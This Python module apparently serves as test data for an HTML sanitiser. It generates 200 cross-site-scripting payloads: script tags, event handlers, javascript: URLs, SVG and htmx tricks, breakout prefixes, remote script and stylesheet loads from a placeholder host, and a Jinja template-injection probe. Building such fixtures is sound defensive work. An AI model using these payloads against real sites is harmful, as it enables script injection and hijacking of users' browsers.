"""Two hundred texts that want to run, load or lead somewhere."""

from __future__ import annotations

_OUTSIDE = "http://outside.invalid"
_RUN = "alert(1)"

_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<script src={_OUTSIDE}/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_OUTSIDE}/x.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href={_OUTSIDE}/x.svg></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src={_OUTSIDE}/></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_OUTSIDE}/x.swf>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src={_OUTSIDE}/x.mp4 onerror={_RUN} autoplay></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action={_OUTSIDE}/><button>x</button></form>",
    f"<base href={_OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={_OUTSIDE}/'>",
    f"<link rel=stylesheet href={_OUTSIDE}/x.css>",
    f"<link rel=preconnect href={_OUTSIDE}>",
    f"<style>@import '{_OUTSIDE}/x.css';</style>",
    f"<div style='background:url({_OUTSIDE}/x.png)'>x</div>",
    f"<div hx-get='{_OUTSIDE}/' hx-trigger=load>x</div>",
    f"<div hx-on:click='{_RUN}' hx-on::load='{_RUN}'>x</div>",
    f"<div sse-connect='{_OUTSIDE}/' hx-ext=sse>x</div>",
    f"<template><script>{_RUN}</script></template>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<select><option><img src=x onerror={_RUN}></select>",
    f"<button formaction=javascript:{_RUN} autofocus onfocus={_RUN}>x</button>",
    f"<portal src={_OUTSIDE}></portal>",
    f"<x onpointerenter={_RUN} onfocus={_RUN} tabindex=1 autofocus>x</x>",
    f"<!--><script>{_RUN}</script>-->",
    f"javascript:{_RUN}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in ().__class__ %}{% endfor %}",
)
_WAYS_OUT = ("{}", '">{}', "'>{}", "</title></textarea></style></script></iframe>{}", "\u202e-->{}]]>")

_PAYLOADS = tuple(way.format(vector) for vector in _VECTORS for way in _WAYS_OUT)


def payloads(outside: str) -> list[str]:
    """All of them, those that lead somewhere to that address."""
    return [payload.replace(_OUTSIDE, outside) for payload in _PAYLOADS]
